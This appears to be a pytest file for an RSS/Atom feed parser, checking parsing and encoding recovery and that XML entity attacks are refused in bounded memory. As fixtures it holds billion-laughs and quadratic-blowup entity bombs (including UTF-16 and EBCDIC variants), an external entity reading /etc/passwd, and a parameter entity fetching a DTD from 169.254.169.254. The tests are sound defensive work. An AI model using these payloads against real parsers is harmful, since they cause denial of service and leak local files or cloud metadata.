"""Feed parsing from bytes, and XML entity attacks refused fast and in bounded memory."""

from __future__ import annotations

import io
import tracemalloc

import feedparser
import pytest
from defusedxml.common import EntitiesForbidden

from claims.ingestion.feeds import FeedError, UnsafeXML, parse_feed

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Desk News</title>
<item><guid>n-1</guid><title>First</title><link>https://news.example/1</link>
<description>&lt;p&gt;The council approved 12 new buses.&lt;/p&gt;</description>
<pubDate>Mon, 29 Dec 2025 10:00:00 GMT</pubDate></item>
<item><title>No guid</title><link>https://news.example/2</link><description>Two.</description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Atom desk</title>
<entry><id>tag:news.example,2025:1</id><title>Zürich</title><link href="https://news.example/a"/>
<updated>2025-12-29T10:00:00Z</updated><author><name>Ana</name></author>
<content type="html">&lt;p&gt;Prices rose 3%.&lt;/p&gt;</content></entry></feed>"""

LATIN1_RSS = (
    "<rss version='2.0'><channel><title>Café</title><item><title>Crème brûlée</title>"
    "<link>https://news.example/c</link></item></channel></rss>"
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""


def _quadratic_blowup() -> bytes:
    entity = "x" * 50_000
    refs = "&a;" * 50_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{entity}">]>'
        f'<rss version="2.0"><channel><title>{refs}</title></channel></rss>'
    ).encode()


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item></channel></rss>"""

# EBCDIC is sniffed by feedparser from the bytes alone; "<!ENTITY" is not ASCII there.
EBCDIC_BILLION_LAUGHS = BILLION_LAUGHS.decode().replace('"1.0"?', '"1.0" encoding="cp037"?').encode("cp037")

# An ill-formed comment before the DTD makes expat fail, and feedparser's loose fallback expands the entities itself.
EBCDIC_LOOSE_FALLBACK = (
    _quadratic_blowup()
    .decode()
    .replace('"1.0"?>', '"1.0" encoding="cp037"?>\n<!-- a -- b -->\n')
    .replace("[<!ENTITY", "[\n<!ENTITY")
    .replace('">]>', '">\n]>')
    .encode("cp037")
)

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""


def test_rss_items_are_parsed():
    feed = parse_feed(RSS)
    assert feed.title == "Desk News"
    assert feed.version == "rss20"
    assert [item.guid for item in feed.items] == ["n-1", "https://news.example/2"]
    first = feed.items[0]
    assert first.link == "https://news.example/1"
    assert "12 new buses" in first.content_html
    assert first.published.isoformat() == "2025-12-29T10:00:00+00:00"
    assert feed.warning == ""


def test_atom_entries_are_parsed():
    feed = parse_feed(ATOM.encode("utf-8"))
    (entry,) = feed.items
    assert feed.version == "atom10"
    assert entry.guid == "tag:news.example,2025:1"
    assert entry.title == "Zürich"
    assert entry.author == "Ana"
    assert "3%" in entry.content_html


def test_undeclared_latin1_is_recovered():
    feed = parse_feed(LATIN1_RSS.encode("latin-1"))
    assert feed.title == "Café"
    assert feed.items[0].title == "Crème brûlée"


def test_utf16_feeds_are_parsed():
    feed = parse_feed(ATOM.replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16"))
    assert feed.items[0].title == "Zürich"


def test_ill_formed_feeds_are_recovered_with_a_warning():
    broken = RSS.replace(b"</channel></rss>", b"<item><title>Unclosed & bad</title></channel>")
    feed = parse_feed(broken)
    assert len(feed.items) >= 2
    assert feed.warning


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"<html><body><p>Not a feed</p></body></html>", "not an RSS or Atom feed"),
        (b"\x00\xff\xfe garbage \x80\x81", "not an RSS or Atom feed"),
        (b"<rss version='2.0'><channel><title>x</title></chan", None),  # recovered, not refused
    ],
)
def test_non_feeds_fail_with_a_reason(data, reason):
    if reason is None:
        assert parse_feed(data).title == "x"
        return
    with pytest.raises(FeedError, match=reason):
        parse_feed(data)


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("billion laughs", BILLION_LAUGHS, "declares an entity"),
        ("quadratic blowup", _quadratic_blowup(), "declares an entity"),
        ("external entity", EXTERNAL_ENTITY, "external entity"),
        ("parameter entity", PARAMETER_ENTITY, "external entity"),
        (
            "utf-16 billion laughs",
            BILLION_LAUGHS.decode().replace('"1.0"?', '"1.0" encoding="utf-16"?').encode("utf-16"),
            "entity",
        ),
        ("ebcdic billion laughs", EBCDIC_BILLION_LAUGHS, "declares an entity"),
        ("ebcdic loose-parser fallback", EBCDIC_LOOSE_FALLBACK, "declares an entity"),
    ],
)
def test_xml_entity_attacks_are_refused_in_bounded_memory(name, data, reason):
    tracemalloc.start()
    try:
        with pytest.raises(UnsafeXML, match=reason):
            parse_feed(data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 20 * len(data) + 1_000_000, name


def test_charset_from_the_content_type_is_honoured_when_refusing():
    undeclared = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>\n', b"").decode().encode("cp037")
    with pytest.raises(UnsafeXML, match="declares an entity"):
        parse_feed(undeclared, content_type="application/rss+xml; charset=cp037")


def test_feedparser_strict_parser_refuses_entities():
    # The module configures feedparser's SAX parser; entity declarations never reach plain expat.
    with pytest.raises(EntitiesForbidden):
        feedparser.parse(io.BytesIO(EBCDIC_BILLION_LAUGHS))


def test_a_doctype_naming_an_external_dtd_is_parsed():
    feed = parse_feed(
        b'<?xml version="1.0" encoding="utf-8"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN"'
        b' "http://site.invalid/dtd">\n<rss version="2.0"><channel><title>found</title>'
        b"<item><guid>1</guid><title>One</title></item></channel></rss>"
    )
    assert (feed.title, feed.warning, [item.title for item in feed.items]) == ("found", "", ["One"])


def test_ebcdic_feeds_without_entities_are_parsed():
    feed = parse_feed(ATOM.replace('encoding="utf-8"', 'encoding="cp037"').encode("cp037"))
    assert feed.items[0].title == "Zürich"


def test_parse_never_opens_paths_or_urls(tmp_path):
    secret = tmp_path / "feed.xml"
    secret.write_bytes(RSS)
    # Given a path or URL as bytes, feedparser must treat it as (non-feed) content, not open it.
    with pytest.raises(FeedError):
        parse_feed(str(secret).encode())
    with pytest.raises(FeedError):
        parse_feed(b"http://127.0.0.1:9/feed.xml")


def test_nul_characters_are_dropped_from_items():
    # expat refuses them, and feedparser's loose fallback keeps them; PostgreSQL cannot store them.
    feed = parse_feed(
        b"<rss version='2.0'><channel><title>x</title><item><guid>g\x00h</guid><link>https://news.example/\x00a</link>"
        b"<description>a\x00b</description></item></channel></rss>"
    )
    (item,) = feed.items
    assert (item.guid, item.link, item.content_html) == ("gh", "https://news.example/a", "ab")
